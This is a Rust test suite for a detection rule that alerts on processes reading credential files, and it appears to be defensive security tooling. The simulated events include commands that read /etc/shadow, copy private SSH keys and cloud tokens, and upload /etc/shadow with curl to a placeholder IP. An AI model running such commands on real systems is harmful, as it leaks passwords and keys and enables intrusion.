use credential_files::CredentialFiles;
use ocellus_sdk::prelude::{HIGH, LOW, MEDIUM, fields};
use ocellus_sdk::testing::{FakeEvent, Tester};

fn run<const N: usize>(args: [&str; N]) -> FakeEvent {
    FakeEvent::exec(&format!("/usr/bin/{}", args[0]), args)
}

#[test]
fn password_hashes_alert() {
    let mut rule = Tester::<CredentialFiles>::new();
    let alert = rule.expect_alert(&run(["cat", "/etc/shadow"]));
    assert_eq!(alert.severity, HIGH);
    assert_eq!(alert.message, "user read /etc/shadow: cat /etc/shadow");
    rule.expect_alert(&run(["cp", "/etc/shadow-", "/tmp/x"]));
    rule.expect_alert(&run(["curl", "-F", "f=@/etc/shadow", "http://192.0.2.1"]));
}

#[test]
fn private_keys_and_tokens_alert() {
    let mut rule = Tester::<CredentialFiles>::new();
    let severity = |args| rule.expect_alert(&run(args)).severity;
    let mut severity = severity;
    assert_eq!(severity(["cat", "/home/a/.ssh/id_ed25519"]), HIGH);
    assert_eq!(severity(["tar", "/root/.gnupg/private-keys-v1.d"]), HIGH);
    assert_eq!(severity(["grep", "/home/a/.aws/credentials"]), MEDIUM);
    assert_eq!(severity(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]), MEDIUM);
}

#[test]
fn relative_names_alert() {
    let mut rule = Tester::<CredentialFiles>::new();
    let within = |folder: &str, args| run(args).with(fields::PROCESS_WORKING_DIRECTORY, folder);
    let alert = rule.expect_alert(&within("/etc", ["cat", "shadow"]));
    assert!(alert.message.starts_with("user read /etc/shadow"));
    rule.expect_alert(&within("/home/a/.ssh", ["cp", "id_rsa"]));
    rule.expect_pass(&within("/home/a", ["cat", "shadow"]));
}

#[test]
fn a_person_at_a_terminal_is_less_severe_but_not_with_the_system_s_passwords() {
    let mut rule = Tester::<CredentialFiles>::new();
    let at_terminal = |args| run(args).with(fields::PROCESS_INTERACTIVE, true);
    assert_eq!(rule.expect_alert(&at_terminal(["cat", "/home/a/.kube/config"])).severity, LOW);
    assert_eq!(rule.expect_alert(&at_terminal(["cat", "/etc/shadow"])).severity, HIGH);
}

#[test]
fn public_halves_pass() {
    let mut rule = Tester::<CredentialFiles>::new();
    rule.expect_pass(&run(["cat", "/home/a/.ssh/id_ed25519.pub"]));
    rule.expect_pass(&run(["cat", "/etc/ssh/ssh_host_rsa_key.pub"]));
    rule.expect_pass(&run(["cat", "/etc/letsencrypt/live/example.org/fullchain.pem"]));
    rule.expect_pass(&run(["cat", "/etc/passwd"]));
}

#[test]
fn the_credentials_own_tools_are_not_even_asked_about() {
    let rule = Tester::<CredentialFiles>::new();
    assert!(!rule.wants(&run(["ssh", "-i", "/home/a/.ssh/id_rsa", "host"])));
    assert!(!rule.wants(&run(["ssh-add", "/home/a/.ssh/id_rsa"])));
    assert!(!rule.wants(&run(["kubectl", "--kubeconfig", "/home/a/.kube/config"])));
}

#[test]
fn the_daily_copy_and_package_scripts_pass() {
    let mut rule = Tester::<CredentialFiles>::new();
    let daily = run(["cp", "-p", "/etc/shadow", "shadow.bak"]);
    rule.expect_pass(&daily.with(fields::PROCESS_WORKING_DIRECTORY, "/var/backups"));
    let script = run(["grep", "^games:", "/etc/shadow"]);
    rule.expect_pass(&script.ancestors(["/usr/bin/dash", "/usr/bin/dpkg"]));
}
